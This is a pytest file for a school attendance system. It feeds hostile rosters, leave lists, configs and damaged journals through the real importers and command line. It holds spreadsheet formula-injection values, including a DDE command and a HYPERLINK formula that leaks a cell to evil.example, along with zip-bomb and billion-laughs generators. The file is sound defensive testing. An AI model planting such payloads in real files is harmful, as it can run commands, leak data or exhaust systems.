"""Hostile files: what a school's roster, leave list or config may hold must not turn against the office or the gate.

Reports are written for real and read back with openpyxl and the csv module; rosters and configs go through the
real importer, loader and command line.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hub_support import REPO, ZONE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from appliance.config import ConfigError, DatabaseConfig, RosterConfig, load_config, parse_hub_config
from appliance.events import EventDraft, Kind, Method
from appliance.hub.leave import import_leave_file
from appliance.hub.report import export_day
from appliance.hub.roster import import_people
from appliance.hub.store import Store
from appliance.journal import EventJournal, open_database
from appliance.journal.sealing import Sealer
from appliance.journal.template_store import TemplateStore
from appliance.roster.importer import RosterFileError, load_roster_file

SCHOOL = "thcs-a"
MONDAY = date(2024, 10, 21)

# What the office's spreadsheet would run if it were written as it is.
HOSTILE_ID = "=cmd|'/C calc'!A0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn An")'
HOSTILE_CLASS = "@SUM(1+1)"
HOSTILE_STAFF_ID = "+GV01"
HOSTILE_STAFF_NAME = "-2+3+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+1"


def hostile_report(tmp_path: Path) -> tuple[Path, Path]:
    """A roster and a leave list full of would-be formulas, imported through the real importers, then reported."""
    roster = tmp_path / "danh-sach.csv"
    rows = [
        ["Mã học sinh", "Họ và tên", "Lớp", "Vai trò"],
        [HOSTILE_ID, HOSTILE_NAME, HOSTILE_CLASS, "học sinh"],
        ["HS002", TAB_NAME, HOSTILE_CLASS, "học sinh"],
        ["HS003", "Lê Minh Châu", HOSTILE_CLASS, "học sinh"],
        ["-42", "Trần Thị Bình", HOSTILE_CLASS, "học sinh"],
        [HOSTILE_STAFF_ID, HOSTILE_STAFF_NAME, "", "giáo viên"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    roster.write_text(buffer.getvalue(), encoding="utf-8")
    config = parse_hub_config(
        {
            "hub": {"schools": [SCHOOL]},
            "attendance": {"class_start": "07:15", "absent_after_minutes": 15},
            "report": {"export_dir": str(tmp_path / "reports"), "send_at": "16:30"},
        }
    )
    parsed = load_roster_file(roster, config.roster)
    assert parsed.errors == [], parsed.errors
    store = Store(DatabaseConfig(url=f"sqlite:///{tmp_path / 'hub.db'}"))
    store.migrate()
    conn = store.connect()
    try:
        import_people(conn, SCHOOL, parsed.people)
        # The importer refuses control characters now; a hub database may hold one from before.
        conn.execute("UPDATE people SET full_name = ? WHERE id = 'HS003'", ["Lê Minh\x07 Châu"])
        leave = tmp_path / "nghi.csv"
        leave.write_text(
            "Mã học sinh,Từ ngày,Đến ngày,Lý do,Duyệt\r\n"
            'HS002,21/10/2024,21/10/2024,"=1+2;@A1",x\r\n'
            'HS003,21/10/2024,21/10/2024,"\r-1",x\r\n',
            encoding="utf-8",
        )
        assert import_leave_file(conn, SCHOOL, leave).errors == []
        files = export_day(conn, config, SCHOOL, MONDAY, now=datetime(2024, 10, 21, 16, 30, tzinfo=ZONE))
    finally:
        conn.close()
    return files.xlsx, files.csv


def test_report_writes_would_be_formulas_as_text(tmp_path: Path) -> None:
    """Names, ids, classes and leave reasons that look like formulas stay the text the school typed; numbers stay
    numbers."""
    xlsx, csv_file = hostile_report(tmp_path)

    with zipfile.ZipFile(xlsx) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]
    book = load_workbook(xlsx)
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == [], formulas
    assert book.sheetnames == ["Tổng hợp", "@SUM(1+1)", "Cán bộ, giáo viên"]
    students = {row[0]: row for row in book["@SUM(1+1)"].iter_rows(min_row=2, values_only=True)}
    assert set(students) == {HOSTILE_ID, "HS002", "HS003", "-42"}
    assert students[HOSTILE_ID][1:3] == (HOSTILE_NAME, HOSTILE_CLASS)
    assert students["HS002"][1] == "=1+1"  # names are stored with single spaces, none leading
    assert students["HS002"][7] == "=1+2;@A1"
    assert students["HS003"][1] == "Lê Minh Châu"  # the bell character cannot be stored in XLSX: dropped
    assert students["HS003"][7] == "-1"
    assert isinstance(students["-42"][0], str), "an id is text even when it looks like a negative number"
    staff = list(book["Cán bộ, giáo viên"].iter_rows(min_row=2, values_only=True))
    assert staff[0][:2] == (HOSTILE_STAFF_ID, HOSTILE_STAFF_NAME)
    summary = book["Tổng hợp"]
    assert [c.value for c in summary[5]][:7] == [HOSTILE_CLASS, 4, 0, 0, 2, 2, 0]
    assert [c.data_type for c in summary[5]][:7] == ["s", "n", "n", "n", "n", "n", "n"], "counts stay numbers"

    table = list(csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))))
    body = {row[0]: row for row in table[1:]}
    assert set(body) == {f"'{HOSTILE_ID}", "HS002", "HS003", "'-42"}
    assert body[f"'{HOSTILE_ID}"][1:3] == [f"'{HOSTILE_NAME}", f"'{HOSTILE_CLASS}"]
    assert body["HS002"][7] == "'=1+2;@A1"
    assert body["HS003"][7] == "'-1"
    assert body["HS002"][1] == "'=1+1"
    dangerous = [field for row in table for field in row if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []


# ---------------------------------------------------------------------------------------------- roster files

ROSTER_CSV = (
    "Mã học sinh,Họ và tên,Lớp,Vai trò,Trạng thái,Mã thẻ,SĐT phụ huynh,Email phụ huynh\r\n"
    "HS001,Nguyễn Văn An,6A,học sinh,đang học,04A1B2C3,0901234567,an@example.vn\r\n"
    "HS002,Trần Thị Bình,6B,học sinh,nghỉ học,1234567890;04A1B2C4,,\r\n"
    "GV01,Đặng Thị Lan,,giáo viên,,0A0B0C0D,,\r\n"
)


def roster_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in csv.reader(io.StringIO(ROSTER_CSV)):
        sheet.append(row)
    sheet.append(["HS003", "Lê Minh Châu", "6A", "học sinh", "", 3456789012, 901234567, ""])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The workbook with each member passed through ``change`` (None drops the member)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = change(name, source.read(name))
            if content is not None:
                target.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A small .xlsx whose sheet unpacks to a gigabyte of blank rows."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(roster_xlsx())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, source.read(name))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = b"<row/>" * 100_000
            for _ in range(1800):
                member.write(chunk)
            member.write(b"</sheetData></worksheet>")
    return out.getvalue()


def wide_sheet() -> bytes:
    """A sheet that claims the whole grid (A1:XFD1048576) and fills its last column."""

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        text = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', content)
        return text.replace(b"</row>", b'<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>', 1)

    return rezip(roster_xlsx(), change)


def entity_bomb() -> bytes:
    """A sheet whose first id is a billion laughs: ten levels of entities, each ten of the one below."""
    levels = b"".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">'.encode() for i in range(1, 10))
    doctype = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lollollollol">' + levels + b"]>"

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        body = content[content.index(b"<worksheet") :]
        return doctype + body.replace(b"<t>HS001</t>", b"<t>&l9;</t>", 1)

    return rezip(roster_xlsx(), change)


def utf16(text: str) -> bytes:
    return b"\xff\xfe" + text.encode("utf-16-le")


# (file name, content, what the one line must say): each a crash of the importer before, or a limit now.
HOSTILE_ROSTERS: list[tuple[str, Callable[[], bytes], str]] = [
    (
        "huge-field.csv",
        lambda: ROSTER_CSV.encode() + b'HS009,"' + b"x" * 200_000 + b'",6A\r\n',
        "line 5 is not valid CSV (a cell of more than 10000 characters)",
    ),
    (
        "long-cell.csv",
        lambda: ROSTER_CSV.encode() + b"HS009," + b"x" * 20_000 + b",6A\r\n",
        "row 5 has a cell of 20000",
    ),
    ("newline-unquoted.csv", lambda: b"id,name,class\nHS001,An\rBinh,6A\n", "not valid CSV"),
    ("nul-bytes.csv", lambda: ROSTER_CSV.encode().replace(b"HS002", b"HS\x00\x0002"), "NUL bytes"),
    ("utf16-no-bom.csv", lambda: ROSTER_CSV.encode("utf-16-le"), "not UTF-8"),
    ("ascii-utf16-no-bom.csv", lambda: b"id,name,class\nHS1,An,6A\n".decode().encode("utf-16-le"), "NUL bytes"),
    ("utf16-odd-bytes.csv", lambda: utf16(ROSTER_CSV)[:-1], "damaged UTF-16"),
    ("utf16-lone-surrogate.csv", lambda: utf16(ROSTER_CSV) + b"\x00\xd8", "damaged UTF-16"),
    ("bom-only.csv", lambda: b"\xef\xbb\xbf", "the file is empty"),
    ("latin1.csv", lambda: ROSTER_CSV.encode("utf-8").replace("ễ".encode(), b"\xe9"), "not UTF-8"),
    ("truncated.xlsx", lambda: roster_xlsx()[: len(roster_xlsx()) // 2], "not a readable .xlsx"),
    ("random.xlsx", lambda: bytes(range(256)) * 4, "not a readable .xlsx"),
    ("empty.xlsx", lambda: b"", "not a readable .xlsx"),
    (
        "broken-sheet-xml.xlsx",
        lambda: rezip(roster_xlsx(), lambda n, c: c[: len(c) // 2] if n == "xl/worksheets/sheet1.xml" else c),
        "not a readable .xlsx",
    ),
    (
        "no-worksheet.xlsx",
        lambda: rezip(
            roster_xlsx(),
            lambda n, c: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", c) if n == "xl/workbook.xml" else c,
        ),
        "no worksheet",
    ),
    (
        "missing-sheet-part.xlsx",
        lambda: rezip(roster_xlsx(), lambda n, c: None if n == "xl/worksheets/sheet1.xml" else c),
        "no worksheet",
    ),
    ("zip-bomb.xlsx", zip_bomb, "far more than a roster"),
    ("entity-bomb.xlsx", entity_bomb, "its sheet is damaged: ParseError"),  # expat's amplification limit
]


@pytest.mark.parametrize(("name", "content", "said"), HOSTILE_ROSTERS, ids=[h[0] for h in HOSTILE_ROSTERS])
def test_a_hostile_roster_is_one_line_of_what_is_wrong(
    tmp_path: Path, name: str, content: Callable[[], bytes], said: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content())
    with pytest.raises(RosterFileError) as caught:
        load_roster_file(path, RosterConfig())
    message = str(caught.value)
    assert said in message and "\n" not in message and len(message) < 400, message


def test_a_sheet_claiming_the_whole_grid_is_read_quickly(tmp_path: Path) -> None:
    """A dimension of A1:XFD1048576 must not make the importer walk 17 billion cells."""
    path = tmp_path / "wide.xlsx"
    path.write_bytes(wide_sheet())
    parsed = load_roster_file(path, RosterConfig())
    assert [p.id for p in parsed.people] == ["HS001", "HS002", "GV01", "HS003"]


def test_a_hostile_row_is_reported_on_one_line(tmp_path: Path) -> None:
    """What the hub could not publish (downlink.schema.json) is refused at import, each on one readable line."""
    rows = [
        ["Mã học sinh", "Họ và tên", "Lớp"],
        ["HS\n001", "An", "6A"],
        ["H" * 65, "Bình", "6A"],
        ["HS003", "Châu\x1b[31m", "6A"],
        ["HS004", "D" * 201, "6A"],
        ["HS005", "Én", "6" * 51],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path = tmp_path / "rows.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    parsed = load_roster_file(path, RosterConfig())
    assert parsed.people == []
    lines = [str(error) for error in parsed.errors]
    assert all("\n" not in line and len(line) < 400 for line in lines), lines
    assert lines == [
        "row 2 ('HS\\n001'): person id holds a control character (invisible, e.g. \\x07): retype it",
        f"row 3 ({'H' * 65}): person id longer than 64 characters (65)",
        "row 4 (HS003): full name holds a control character (invisible, e.g. \\x07): retype it",
        "row 5 (HS004): full name longer than 200 characters (201)",
        "row 6 (HS005): class longer than 50 characters (51)",
    ]


MUTATIONS = st.lists(
    st.one_of(
        st.tuples(st.just("truncate"), st.floats(0, 1)),
        st.tuples(st.just("byte"), st.floats(0, 1), st.integers(0, 255)),
        st.tuples(st.just("insert"), st.floats(0, 1), st.sampled_from([b"\x00", b'"', b"\r", b"\n", b";", b"\t"])),
        st.tuples(st.just("prefix"), st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"])),
        st.tuples(st.just("field"), st.floats(0, 1), st.sampled_from([9_000, 12_000, 140_000])),
        st.tuples(st.just("random"), st.binary(max_size=300)),
    ),
    min_size=1,
    max_size=4,
)


def mutate(data: bytes, mutations: list[tuple[Any, ...]]) -> bytes:
    out = bytearray(data)
    for kind, *args in mutations:
        at = int(args[0] * len(out)) if isinstance(args[0], float) else 0
        if kind == "truncate":
            del out[at:]
        elif kind == "byte" and out:
            out[min(at, len(out) - 1)] = args[1]
        elif kind == "insert":
            out[at:at] = args[1]
        elif kind == "prefix":
            out[:0] = args[0]
        elif kind == "field":
            out[at:at] = b"x" * args[1]
        elif kind == "random":
            out = bytearray(args[0])
    return bytes(out)


SEEDS = {
    "utf8.csv": ROSTER_CSV.encode(),
    "utf8-bom.csv": b"\xef\xbb\xbf" + ROSTER_CSV.replace(",", ";").encode(),
    "utf16.csv": utf16(ROSTER_CSV.replace(",", "\t")),
    "roster.xlsx": roster_xlsx(),
}
SHEET_PARTS = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml"]


@settings(max_examples=500, derandomize=True, database=None, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    seed=st.sampled_from(sorted(SEEDS)),
    inside=st.one_of(st.none(), st.sampled_from(SHEET_PARTS)),
    mutations=MUTATIONS,
)
def test_fuzzed_rosters_never_end_in_a_traceback(
    tmp_path_factory: pytest.TempPathFactory, seed: str, inside: str | None, mutations: list[tuple[Any, ...]]
) -> None:
    """Damaged, cut, padded and random CSV and XLSX files: each is read, or refused with one line (no traceback)."""
    data = SEEDS[seed]
    if seed.endswith(".xlsx") and inside is not None:
        data = rezip(data, lambda name, content: mutate(content, mutations) if name == inside else content)
    else:
        data = mutate(data, mutations)
    path = tmp_path_factory.mktemp("fuzz") / seed
    path.write_bytes(data)
    try:
        parsed = load_roster_file(path, RosterConfig())
    except RosterFileError as exc:
        assert str(exc) and "\n" not in str(exc) and len(str(exc)) < 600, str(exc)
        return
    for error in parsed.errors:
        assert "\n" not in str(error) and len(str(error)) < 600, str(error)


# ---------------------------------------------------------------------------------------------- the command line


def edugate(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "appliance.cli", *args], capture_output=True, text=True, cwd=REPO, timeout=120
    )


def assert_one_line(proc: subprocess.CompletedProcess[str], said: str) -> None:
    """Exit 1 (not 2, not a crash) and one line on stderr, the one that says what is wrong."""
    lines = proc.stderr.splitlines()
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert len(lines) == 1 and lines[0].startswith("edugate: error: ") and said in lines[0], proc.stderr[-2000:]


CLI_SAMPLE = ["huge-field.csv", "utf16-odd-bytes.csv", "nul-bytes.csv", "broken-sheet-xml.xlsx", "no-worksheet.xlsx"]


@pytest.mark.parametrize("command", ["gate", "hub"])
def test_both_roster_imports_say_one_line_for_a_hostile_file(tmp_path: Path, command: str) -> None:
    """`edugate roster import` and `edugate hub roster import` read rosters with the same importer: a sample of the
    hostile files through the real command line."""
    hub_toml = tmp_path / "hub.toml"
    hub_toml.write_text(f'[hub]\nschools = ["{SCHOOL}"]\n\n[database]\nurl = "sqlite:///{tmp_path / "hub.db"}"\n')
    cases = {name: (content, said) for name, content, said in HOSTILE_ROSTERS}
    for name in CLI_SAMPLE[::2] if command == "hub" else CLI_SAMPLE:
        content, said = cases[name]
        path = tmp_path / name
        path.write_bytes(content())
        if command == "gate":
            proc = edugate(
                "roster", "import", str(path), "--journal", str(tmp_path / "j.db"), "--config", "/nonexistent"
            )
        else:
            proc = edugate("hub", "roster", "import", str(path), "--school", SCHOOL, "--config", str(hub_toml))
        assert_one_line(proc, said)
    assert not (tmp_path / "j.db").exists(), "a refused file must not even create the journal"


# ---------------------------------------------------------------------------------------------- configs and journals


@pytest.mark.parametrize(
    "text",
    [
        "a = " + "[" * 600 + "]" * 600,  # tomllib recursed until RecursionError
        "[device]\nid = " + "{a = " * 600 + "1" + "}" * 600,
        "[device]\nid." + ".".join(["a"] * 3000) + " = 1",  # parsed, then the error report's repr() recursed
        "[[readers]]\nname = " + "[" * 17 + "1" + "]" * 17,
    ],
    ids=["arrays", "inline-tables", "dotted-keys", "just-too-deep"],
)
def test_a_deeply_nested_toml_is_one_line_in_config_check_and_hub_check(tmp_path: Path, text: str) -> None:
    path = tmp_path / "deep.toml"
    path.write_text(text)
    with pytest.raises(ConfigError, match="nested more than 16 deep"):
        load_config(path)
    assert_one_line(edugate("config", "check", str(path)), "nested more than 16 deep")
    assert_one_line(edugate("hub", "check", str(path)), "nested more than 16 deep")


def damaged_journal(folder: Path, events: int = 300) -> Path:
    """A real journal whose middle events page is overwritten with garbage (the rows on it are unreadable)."""
    path = folder / "journal.db"
    database = open_database(path, writer=True)
    journal = EventJournal(database, "gate-01")
    for i in range(events):
        journal.append(
            EventDraft(
                Kind.UNKNOWN_CARD, "2026-11-23T07:00:00+07:00", True, Method.CARD, reader="lane", card_uid=f"{i:08X}"
            )
        )
    database.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    database.close()
    with contextlib.closing(sqlite3.connect(path)) as conn:
        pages = conn.execute("SELECT pageno FROM dbstat WHERE name = 'events' AND pagetype = 'leaf' ORDER BY path")
        leaves = [row[0] for row in pages]
        page_size = conn.execute("PRAGMA page_size").fetchone()[0]
    page = leaves[len(leaves) // 2]
    with path.open("r+b") as handle:
        handle.seek((page - 1) * page_size)
        handle.write(b"\xde\xad\xbe\xef" * (page_size // 4))
    return path


def test_events_on_a_damaged_journal_lists_what_it_can_then_says_where_it_stopped(tmp_path: Path) -> None:
    path = damaged_journal(tmp_path)
    proc = edugate("events", "--journal", str(path))
    listed = [int(line.split()[0]) for line in proc.stdout.splitlines()]
    assert listed and listed == list(range(1, len(listed) + 1)) and len(listed) < 300
    assert_one_line(proc, f"the journal is damaged after seq {listed[-1]}")
    assert "systemctl restart edugate" in proc.stderr


def test_events_with_a_payload_that_is_no_event_names_its_seq(tmp_path: Path) -> None:
    path = tmp_path / "journal.db"
    database = open_database(path, writer=True)
    journal = EventJournal(database, "gate-01")
    for i in range(3):
        journal.append(EventDraft(Kind.UNKNOWN_CARD, "2026-11-23T07:00:00+07:00", True, Method.CARD, card_uid=f"0{i}"))
    database.conn.execute("UPDATE events SET payload = '{\"seq\": 2' WHERE seq = 2")
    database.close()
    proc = edugate("events", "--journal", str(path), "--json")
    assert [json.loads(line)["seq"] for line in proc.stdout.splitlines()] == [1]
    assert_one_line(proc, "event seq 2 is damaged")


def test_templates_import_from_a_damaged_journal_copy_is_one_line(tmp_path: Path) -> None:
    """`edugate hub templates import` reads a copy of a gate's journal: a damaged copy is one line, not a crash."""
    path = tmp_path / "gate-journal.db"
    key = tmp_path / "gate.key"
    key.write_bytes(bytes(range(32)))
    key.chmod(0o600)
    database = open_database(path, writer=True)
    store = TemplateStore(database, Sealer(key.read_bytes()))
    vectors = np.random.default_rng(3).standard_normal((300, 128), dtype=np.float32)
    for i, vector in enumerate(vectors):
        store.add(f"HS{i:03d}", "sface-2021dec", vector)
    database.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    database.close()
    with contextlib.closing(sqlite3.connect(path)) as conn:
        leaves = conn.execute("SELECT pageno FROM dbstat WHERE name = 'templates' AND pagetype = 'leaf' ORDER BY path")
        page = [row[0] for row in leaves][5]
    with path.open("r+b") as handle:
        handle.seek((page - 1) * 4096)
        handle.write(b"\xde\xad\xbe\xef" * 1024)
    hub_toml = tmp_path / "hub.toml"
    hub_toml.write_text(f'[hub]\nschools = ["{SCHOOL}"]\n\n[database]\nurl = "sqlite:///{tmp_path / "hub.db"}"\n')
    proc = edugate(
        "hub", "templates", "import", "--school", SCHOOL, "--journal", str(path), "--key-file", str(key),
        "--config", str(hub_toml),
    )  # fmt: skip
    assert_one_line(proc, "this journal copy cannot be read")
